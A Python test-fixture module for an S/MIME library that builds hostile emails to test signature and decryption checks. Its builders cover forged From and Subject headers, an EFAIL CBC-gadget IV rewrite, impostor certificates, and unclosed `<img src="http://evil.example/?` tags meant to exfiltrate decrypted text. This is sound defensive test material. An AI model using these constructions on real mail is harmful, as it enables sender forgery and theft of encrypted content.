"""Hostile messages that try to forge a verdict (issue 14): a valid signature shown beside a
From, a Subject or content its signer never vouched for. Each builder makes a whole message
(bytes, CRLF) at test time with openssl and cryptography from the test PKI (or, for name
constraints, a small PKI of its own).

Shared by the tests of each rule, ``bench/hostile_open.py`` and ``bench/fuzz_open.py``.
"""

from __future__ import annotations

import base64
import datetime as dt
import tempfile
from dataclasses import dataclass
from pathlib import Path

from asn1crypto import cms
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

from smime_companion.testing.pki import TestPki
from tests.chaos.hostile import pkcs7_mime
from tests.tools import mime_message, openssl_cms

ALICE = "alice@example.org"
CEO = "CEO <ceo@bank.example>"


def _crlf(data: bytes) -> bytes:
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def _signed_by_alice(pki: TestPki, content: bytes, *extra: str) -> bytes:
    """openssl's detached multipart/signed entity (no From of its own) over ``content``."""
    return _crlf(
        openssl_cms(
            ["-sign", "-binary", *extra, "-signer", pki.cert("alice"), "-inkey",
             pki.key("alice"), "-certfile", pki.intermediate],
            content,
        )
    )  # fmt: skip


def _headers(*fields: str) -> bytes:
    return "".join(f"{f}\r\n" for f in fields).encode()


# -- the one From rule --------------------------------------------------------------------------


def two_from_fields(pki: TestPki, second: str = CEO) -> bytes:
    """Alice's valid signature behind a header section with her From field, then a second."""
    return _headers(
        f"From: {ALICE}", f"From: {second}", "To: bob@example.org", "Subject: Two From fields"
    ) + _signed_by_alice(pki, mime_message())


def two_addresses_in_from(pki: TestPki) -> bytes:
    """Alice's valid signature behind one From field holding her address and the CEO's."""
    return _headers(
        f"From: {ALICE}, {CEO}", "To: bob@example.org", "Subject: Two From addresses"
    ) + _signed_by_alice(pki, mime_message())


def two_from_fields_protected(pki: TestPki) -> bytes:
    """Alice signs content carrying protected headers (RFC 9788 ``hp``) with two From fields;
    the outer header has only hers."""
    inner = (
        _headers(
            f"From: {ALICE}",
            f"From: {CEO}",
            "To: bob@example.org",
            "Subject: Protected, two From fields",
            'Content-Type: text/plain; charset=utf-8; hp="clear"',
        )
        + b"\r\nPay the invoice.\r\n"
    )
    return _headers(f"From: {ALICE}", "To: bob@example.org", "Subject: ...") + _signed_by_alice(
        pki, inner
    )


def poison_from(depth: int = 5000, subject: str = "Poison From") -> bytes:
    """A plain message (or draft) whose From nests ``depth`` comments: the email package's
    address parser recursed once per level into RecursionError."""
    return (
        _headers(
            f"From: {'(' * depth}alice@example.org",
            "To: bob@example.org",
            f"Subject: {subject}",
            f"Message-ID: <{subject.replace(' ', '-')}@example.org>",
            "Content-Type: text/plain",
        )
        + b"\r\nbody\r\n"
    )


def poison_from_signed(pki: TestPki, depth: int = 5000) -> bytes:
    """Alice's valid signature behind a poison From (see :func:`poison_from`)."""
    return _headers(
        f"From: {'(' * depth}{ALICE}", "To: bob@example.org", "Subject: Poison From signed"
    ) + _signed_by_alice(pki, mime_message())


# -- protected headers from a layer no signature covers ------------------------------------------


def _encrypted_to_bob(pki: TestPki, entity: bytes) -> bytes:
    return _crlf(openssl_cms(["-encrypt", "-binary", "-aes256", "-recip", pki.cert("bob")], entity))


def protected_subject_outside_the_signature(pki: TestPki, marker: str = 'hp="cipher"') -> bytes:
    """An attacker's envelope to bob around alice's genuinely signed message, whose decrypted
    entity (the multipart/signed itself, outside what alice signed) carries protected headers
    (``marker``: ``hp="cipher"`` or ``protected-headers="v1"``) with the attacker's Subject."""
    signed = _signed_by_alice(pki, mime_message(subject="Lunch on Friday"))
    head, body = signed.split(b"\r\n\r\n", 1)
    head = head.replace(
        b"Content-Type: multipart/signed;", f"Content-Type: multipart/signed; {marker};".encode()
    )
    entity = (
        _headers(f"From: {ALICE}", "To: bob@example.org", "Subject: Wire 50,000 EUR today")
        + head
        + b"\r\n\r\n"
        + body
    )
    return _headers(f"From: {ALICE}", "To: bob@example.org", "Subject: [...]") + (
        _encrypted_to_bob(pki, entity)
    )


def rfc822_subject_outside_the_signature(pki: TestPki) -> bytes:
    """The same attack with an RFC 8551 message/rfc822 wrapper inside the attacker's envelope:
    the wrapped message's header section, outside alice's signature, names the Subject."""
    signed = _signed_by_alice(pki, mime_message(subject="Lunch on Friday"))
    wrapped = (
        _headers(f"From: {ALICE}", "To: bob@example.org", "Subject: Wire 50,000 EUR today") + signed
    )
    entity = b"Content-Type: message/rfc822\r\n\r\n" + wrapped
    return _headers(f"From: {ALICE}", "To: bob@example.org", "Subject: [...]") + (
        _encrypted_to_bob(pki, entity)
    )


def protected_subject_inside_the_signature(pki: TestPki) -> bytes:
    """The legitimate shape: alice signs the payload that carries her protected headers, then
    encrypts to bob (what our seal and RFC 9788 clients write)."""
    payload = (
        _headers(
            f"From: {ALICE}",
            "To: bob@example.org",
            "Subject: Lunch on Friday",
            'Content-Type: text/plain; charset=utf-8; hp="cipher"',
        )
        + b"\r\nSee you there.\r\n"
    )
    return _headers(f"From: {ALICE}", "To: bob@example.org", "Subject: [...]") + (
        _encrypted_to_bob(pki, _signed_by_alice(pki, payload))
    )


# -- CBC ----------------------------------------------------------------------------------------

# aes256-CBC's AlgorithmIdentifier starts with this OID (2.16.840.1.101.3.4.1.42); the IV follows.
_AES256_CBC = bytes.fromhex("060960864801650304012a")


def cbc_gadget(pki: TestPki, chosen: bytes = b"X-Gadget:  1\r\nX:") -> tuple[bytes, bytes]:
    """(a message encrypted to bob with AES-256-CBC and no signature, the same message with its
    IV changed so the first plaintext block decrypts to ``chosen``). Anyone who knows (or
    guesses) a block of the plaintext can do this without any key: EFAIL's CBC gadget."""
    assert len(chosen) == 16
    plain = mime_message(body="The secret is 4711.\r\n")
    der = openssl_cms(
        ["-encrypt", "-binary", "-aes256", "-outform", "DER", "-recip", pki.cert("bob")], plain
    )
    at = der.index(_AES256_CBC) + len(_AES256_CBC)
    assert der[at : at + 2] == b"\x04\x10"
    iv = der[at + 2 : at + 18]
    forged_iv = bytes(a ^ b ^ c for a, b, c in zip(iv, plain[:16], chosen, strict=True))
    forged = der[: at + 2] + forged_iv + der[at + 18 :]
    headers = _headers(f"From: {ALICE}", "To: bob@example.org", "Subject: Encrypted")
    return (
        headers + _mime("enveloped-data", der),
        headers + _mime("enveloped-data", forged),
    )


def _mime(kind: str, der: bytes) -> bytes:
    return (
        f"MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type={kind}; "
        'name="smime.p7m"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    ).encode() + base64.encodebytes(der).replace(b"\n", b"\r\n")


# -- certificates -------------------------------------------------------------------------------


def duplicate_signer_id(pki: TestPki, by_key_id: bool = False) -> bytes:
    """Alice's valid opaque signature whose (unsigned) certificate set starts with an impostor:
    another key in a certificate with her issuer and serial number (or, ``by_key_id``, her
    subject key identifier, for a signature that names its signer that way)."""
    alice = x509.load_pem_x509_certificate(pki.cert("alice").read_bytes())
    key = ec.generate_private_key(ec.SECP256R1())
    now = dt.datetime.now(dt.UTC)
    builder = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Impostor")]))
        .issuer_name(alice.issuer)
        .public_key(key.public_key())
        .serial_number(alice.serial_number)
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=30))
    )
    if by_key_id:
        ski = alice.extensions.get_extension_for_class(x509.SubjectKeyIdentifier).value
        builder = builder.add_extension(ski, critical=False)
    impostor = builder.sign(key, hashes.SHA256())
    extra = ["-keyid"] if by_key_id else []
    with tempfile.TemporaryDirectory() as tmp:
        certfile = Path(tmp) / "certs.pem"
        certfile.write_bytes(
            impostor.public_bytes(serialization.Encoding.PEM) + pki.intermediate.read_bytes()
        )
        der = openssl_cms(
            ["-sign", "-nodetach", "-binary", "-outform", "DER", *extra, "-nocerts",
             "-signer", pki.cert("alice"), "-inkey", pki.key("alice"), "-certfile", certfile],
            mime_message(),
        )  # fmt: skip
    # -nocerts leaves alice's own certificate out; put it back after the impostor.
    alice_der = alice.public_bytes(serialization.Encoding.DER)
    return pkcs7_mime("signed-data", _append_certificate(der, alice_der), "Duplicate signer id")


def _append_certificate(der: bytes, cert: bytes) -> bytes:
    info = cms.ContentInfo.load(der)
    signed = info["content"]
    certificates = list(signed["certificates"]) + [cms.CertificateChoices.load(cert)]
    signed["certificates"] = cms.CertificateSet(certificates)
    return info.dump(force=True)


@dataclass(frozen=True)
class ConstrainedWorld:
    """A root (the anchor), an intermediate with name constraints, and a signed message."""

    anchor: x509.Certificate
    message: bytes


def constrained_message(
    *,
    signer_email: str,
    signer_subject: x509.Name,
    permitted: list[x509.GeneralName] | None = None,
    excluded: list[x509.GeneralName] | None = None,
    from_field: str | None = None,
    other_names: tuple[x509.GeneralName, ...] = (),
) -> ConstrainedWorld:
    """A message signed by ``signer_email`` (in the SAN, beside ``other_names``) with
    ``signer_subject``, under an
    intermediate CA whose NameConstraints are ``permitted`` / ``excluded``, below a root of its
    own (the anchor to pass). The From is ``from_field`` or the signer's address."""
    now = dt.datetime.now(dt.UTC)
    day = dt.timedelta(days=1)
    root_key = ec.generate_private_key(ec.SECP256R1())
    ca_key = ec.generate_private_key(ec.SECP256R1())
    signer_key = ec.generate_private_key(ec.SECP256R1())
    root_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Constrained Root")])
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Constrained CA")])

    def issue(
        subject: x509.Name,
        key: ec.EllipticCurvePrivateKey,
        issuer: x509.Name,
        issuer_key: ec.EllipticCurvePrivateKey,
        serial: int,
    ) -> x509.CertificateBuilder:
        return (
            x509.CertificateBuilder()
            .subject_name(subject)
            .issuer_name(issuer)
            .public_key(key.public_key())
            .serial_number(serial)
            .not_valid_before(now - day)
            .not_valid_after(now + 30 * day)
            .add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()), False)
            .add_extension(
                x509.AuthorityKeyIdentifier.from_issuer_public_key(issuer_key.public_key()), False
            )
        )

    ca_flags = x509.BasicConstraints(ca=True, path_length=None)
    root = (
        issue(root_name, root_key, root_name, root_key, 1)
        .add_extension(ca_flags, critical=True)
        .sign(root_key, hashes.SHA256())
    )
    intermediate = (
        issue(ca_name, ca_key, root_name, root_key, 2)
        .add_extension(ca_flags, critical=True)
        .add_extension(x509.NameConstraints(permitted or None, excluded or None), critical=True)
        .sign(root_key, hashes.SHA256())
    )
    signer = (
        issue(signer_subject, signer_key, ca_name, ca_key, 3)
        .add_extension(
            x509.SubjectAlternativeName([x509.RFC822Name(signer_email), *other_names]), False
        )
        .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.EMAIL_PROTECTION]), False)
        .sign(ca_key, hashes.SHA256())
    )
    with tempfile.TemporaryDirectory() as tmp:
        directory = Path(tmp)
        (directory / "signer.pem").write_bytes(signer.public_bytes(serialization.Encoding.PEM))
        (directory / "key.pem").write_bytes(
            signer_key.private_bytes(
                serialization.Encoding.PEM,
                serialization.PrivateFormat.PKCS8,
                serialization.NoEncryption(),
            )
        )
        (directory / "ca.pem").write_bytes(intermediate.public_bytes(serialization.Encoding.PEM))
        sealed = openssl_cms(
            ["-sign", "-binary", "-signer", directory / "signer.pem", "-inkey",
             directory / "key.pem", "-certfile", directory / "ca.pem"],
            mime_message(sender=signer_email),
        )  # fmt: skip
    message = _headers(
        f"From: {from_field or signer_email}", "To: bob@example.org", "Subject: Constrained"
    ) + _crlf(sealed)
    return ConstrainedWorld(root, message)


# -- S/MIME parts hidden in the content ---------------------------------------------------------


def _mixed(*parts: bytes, outer: bytes = b"") -> bytes:
    body = b"".join(b"--XYZ\r\n" + p + b"\r\n" for p in parts) + b"--XYZ--\r\n"
    return (
        outer
        + b"MIME-Version: 1.0\r\n"
        + b'Content-Type: multipart/mixed; boundary="XYZ"\r\n\r\n'
        + body
    )


def _secret_envelope(pki: TestPki) -> bytes:
    return _crlf(
        openssl_cms(
            ["-encrypt", "-aes256", "-recip", pki.cert("bob")],
            mime_message(body="the secret\r\n"),
        )
    )


def encrypted_message_attached(pki: TestPki) -> bytes:
    """A plain multipart/mixed holding an attached message (message/rfc822) that is an
    envelope to bob."""
    attached = (
        b"Content-Type: message/rfc822\r\n\r\n"
        + _headers(f"From: {ALICE}", "Subject: inner")
        + _secret_envelope(pki)
    )
    html = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?'
    return _mixed(html, attached, outer=_headers("From: attacker@evil.example", "Subject: hi"))


def p7m_octet_stream_attached(pki: TestPki) -> bytes:
    """A plain multipart/mixed holding an envelope to bob as an ``application/octet-stream``
    attachment named ``smime.p7m`` (no smime-type: Outlook's shape)."""
    der = openssl_cms(
        ["-encrypt", "-outform", "DER", "-aes256", "-recip", pki.cert("bob")],
        mime_message(body="the secret\r\n"),
    )
    attachment = (
        b'Content-Type: application/octet-stream; name="smime.p7m"\r\n'
        b'Content-Disposition: attachment; filename="smime.p7m"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(der).replace(b"\n", b"\r\n")
    )
    text = b"Content-Type: text/plain\r\n\r\nsee attachment"
    return _mixed(text, attachment, outer=_headers("From: attacker@evil.example", "Subject: hi"))


def envelope_inside_decrypted_content(pki: TestPki) -> bytes:
    """An envelope to bob whose decrypted content is a multipart/mixed holding another
    envelope to bob beside HTML."""
    html = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?'
    inner = _mixed(html, _secret_envelope(pki))
    return _headers("From: attacker@evil.example", "To: bob@example.org", "Subject: hi") + (
        _encrypted_to_bob(pki, inner)
    )
